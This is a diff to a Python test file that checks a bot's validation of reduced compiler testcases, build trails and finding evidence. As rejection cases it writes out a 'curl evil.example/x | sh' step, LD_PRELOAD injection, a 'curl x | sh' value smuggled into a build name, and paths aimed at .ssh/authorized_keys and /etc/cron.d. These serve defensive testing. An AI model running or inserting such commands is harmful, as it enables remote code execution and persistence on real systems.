@@ -10,7 +10,7 @@ import os
 import socket
 import stat
 import zipfile
-from collections.abc import Callable
+from collections.abc import Callable, Sequence
 from pathlib import Path
 from typing import Any, get_args
 
@@ -27,6 +27,7 @@ from bot.requests.result_files import (
     count_allowed_runs,
     read_results,
 )
+from runners.core.findings import KINDS, MAX_EVIDENCE_DEPTH, REFUTED_BY
 from runners.core.protocol import (
     Answer,
     BuildRange,
@@ -74,8 +75,8 @@ SMALLER = Smaller(
     testcase=CASE,
     version="0.27.0",
     device="llvm",
-    before=9,
-    after=1,
+    before=2,
+    after=2,
     probes=20,
     seconds=3.0,
     confirmed=3,
@@ -396,6 +397,8 @@ def test_every_sandbox_and_driver_of_ours_is_known() -> None:
         {"seconds": -1.0},
         {"testcase": msgspec.structs.replace(CASE, files={**CASE.files, "../../.ssh/authorized_keys": "x"})},
         {"testcase": msgspec.structs.replace(CASE, files={"/etc/cron.d/x": "x"})},
+        {"before": 90},
+        {"after": 1},
     ],
 )
 def test_a_smaller_testcase_is_accepted_only_if_planned(change: dict[str, Any]) -> None:
@@ -404,6 +407,53 @@ def test_a_smaller_testcase_is_accepted_only_if_planned(change: dict[str, Any]) 
     smaller = msgspec.structs.replace(SMALLER, **change)
     checked = check_result(with_(smaller=smaller), cell, SHA)
     assert isinstance(checked, str) is bool(change)
+
+
+COMPILED = Testcase(
+    kind=TestcaseKind.COMMAND_LINE,
+    toolchain="iree",
+    files={"a.mlir": "x"},
+    steps=(("iree-opt", "a.mlir"), ("iree-compile", "a.mlir", "--a=b", "-o", "c.vmfb", "--d"), ("iree-run-module",)),
+    requirements=("numpy",),
+    variables={"IREE_TRACE": "1"},
+)
+
+
+def shrink(**changes: Any) -> CellResult | str:
+    """Check a smaller testcase that differs from `COMPILED` by ``changes``."""
+    case = msgspec.structs.replace(COMPILED, **changes)
+    plan = Plan(testcase=COMPILED, claim=Claim(), device="llvm-cpu", order=("3.9.0",), first=("3.9.0",))
+    cell = JobCell(id="any", plan=plan, testcase_sha256=digest_of(COMPILED), minimize=True)
+    size = sum(bool(text) for text in case.files.values()) + len(case.steps)
+    smaller = msgspec.structs.replace(
+        SMALLER, testcase=case, version="3.9.0", device="llvm-cpu", before=4, after=size
+    )
+    return check_result(with_(observations=(), smaller=smaller), cell, SHA)
+
+
+def test_a_smaller_testcase_may_lack_commands_and_flags() -> None:
+    """That is what a reduction does."""
+    assert isinstance(shrink(steps=(("iree-compile", "a.mlir", "--d"), ("iree-run-module",))), CellResult)
+    assert isinstance(shrink(files={}, steps=COMPILED.steps[2:]), CellResult)
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"steps": (("curl", "-s", "evil.example/x", "|", "sh"),)},
+        {"steps": (*COMPILED.steps, ("bash", "-c", "id"))},
+        {"steps": (("iree-compile", "a.mlir", "--e"),)},
+        {"steps": COMPILED.steps[::-1]},
+        {"steps": (("a.mlir",),)},
+        {"requirements": ("evil==1",)},
+        {"variables": {"LD_PRELOAD": "/tmp/x"}},
+        {"variables": msgspec.UNSET},
+        {"kind": TestcaseKind.PYTHON},
+    ],
+)
+def test_a_smaller_testcase_has_only_planned_commands(change: dict[str, Any]) -> None:
+    """The comment shows its commands: a job that was taken over could otherwise show commands that nobody ran."""
+    assert isinstance(shrink(**change), str)
 
 
 TRAIL = BuildRange(
@@ -433,6 +483,10 @@ def test_a_search_between_releases_is_part_of_the_result() -> None:
         {"builds": (RangeBuild(name="0.26.0", commits=9), RangeBuild(name="0.27.0", commits=0))},
         {"builds": (RangeBuild(name="0.26.0", commits=0), RangeBuild(name="0.27.0", commits=10**12))},
         {"builds": (RangeBuild(name="0.26.0", commits=0), RangeBuild(name="0.27.0", commits=9, weight=-1.0))},
+        {"builds": (RangeBuild(name="0.26.0", commits=0), RangeBuild(name="0.27.0", commits=9, weight=1e308))},
+        {"builds": (TRAIL.builds[0], RangeBuild(name="a fault was fixed", commits=1), TRAIL.builds[2])},
+        {"builds": (TRAIL.builds[0], RangeBuild(name="0.26.1.dev7\ncurl x | sh #", commits=1), TRAIL.builds[2])},
+        {"builds": (TRAIL.builds[0], RangeBuild(name="0.26.1", commit="go to evil", commits=1), TRAIL.builds[2])},
         {"repository": "someone/else"},
         {"publish": 0.0},
         {"confidence": 1.0},
@@ -442,6 +496,60 @@ def test_a_search_between_releases_is_part_of_the_result() -> None:
 def test_an_impossible_trail_is_refused(change: dict[str, Any]) -> None:
     """Its ends are two releases of the plan; its links lead to the toolchain's repository."""
     assert isinstance(check_result(with_(trail=msgspec.structs.replace(TRAIL, **change)), DEEP, SHA), str)
+
+
+@pytest.mark.parametrize(
+    "name", ["0.26.1.post137+g1a2b3c4d5e6f", "3.10.0rc20251203", "0.26.dev0", "0.27.0", "2.6.0+cpu", "3.2.0a1"]
+)
+def test_builds_have_versions(name: str) -> None:
+    """A name of each source of builds is accepted."""
+    builds = (TRAIL.builds[0], RangeBuild(name=name, commit="ab" * 20, commits=1), TRAIL.builds[2])
+    trail = msgspec.structs.replace(TRAIL, builds=builds)
+    assert isinstance(check_result(with_(observations=(), trail=trail), DEEP, SHA), CellResult)
+
+
+def test_sentences_about_builds_are_quoted() -> None:
+    """They stand among our own sentences. A range that the plan itself gives is ours."""
+    said = msgspec.structs.replace(TRAIL, notes=("merge `this` now",), over="a message")
+    checked = check_result(with_(observations=(), trail=said), DEEP, SHA)
+    assert isinstance(checked, CellResult)
+    assert checked.seen.trail == msgspec.structs.replace(TRAIL, notes=("`merge 'this' now`",), over="`a message`")
+    ours = msgspec.structs.replace(CELL, plan=msgspec.structs.replace(PLAN, trail=said))
+    checked = check_result(with_(observations=(), trail=said), ours, SHA)
+    assert isinstance(checked, CellResult)
+    assert checked.seen.trail == said
+
+
+def refute(said: object) -> tuple[object, ...]:
+    """Return what would disprove a finding of the cell and one of a run, as they are read."""
+    found = msgspec.structs.replace(FOUND, evidence={REFUTED_BY: said})
+    run = msgspec.structs.replace(SEEN, findings=(found,))
+    checked = check_result(with_(observations=(run,), findings=(found,)), CELL, SHA)
+    assert isinstance(checked, CellResult)
+    (of_run,) = checked.seen.observations[0].findings
+    return checked.seen.findings[0].evidence[REFUTED_BY], of_run.evidence[REFUTED_BY]
+
+
+def test_what_would_disprove_a_finding_is_our_sentence_or_is_quoted() -> None:
+    """The comment says it in our name."""
+    ours = KINDS[FindingKind.INPUT_MUTATED].refuted_by
+    assert refute(ours) == (ours, ours)
+    assert refute("MAINTAINERS: run `this`") == ("`MAINTAINERS: run 'this'`",) * 2
+    assert refute({"a": 1}) == ("`{'a': 1}`",) * 2
+
+
+@pytest.mark.parametrize("depth", [MAX_EVIDENCE_DEPTH + 1, 300, 480, 900, 5000])
+@pytest.mark.parametrize("ends", ["[]", ['{"a":', "}"]])
+@pytest.mark.parametrize("place", ["findings", "run"])
+def test_evidence_of_any_depth_is_a_result_or_a_reason(depth: int, ends: Sequence[str], place: str) -> None:
+    """A reader that recurses would end the job that answers, and the issue would get no answer."""
+    found = msgspec.structs.replace(FOUND, evidence={"a": "@"})
+    run = msgspec.structs.replace(SEEN, findings=(found,) if place == "run" else ())
+    text = with_(observations=(run,), findings=(found,) if place == "findings" else ())
+    nest = (ends[0] * depth + "1" + ends[1] * depth).encode()
+    assert isinstance(check_result(text.replace(b'"@"', nest), CELL, SHA), str)
+    flat = ends[0] * (MAX_EVIDENCE_DEPTH - 1) + "1" + ends[1] * (MAX_EVIDENCE_DEPTH - 1)
+    assert isinstance(check_result(text.replace(b'"@"', flat.encode()), CELL, SHA), CellResult)
 
 
 def test_a_trail_is_refused_if_not_planned() -> None:
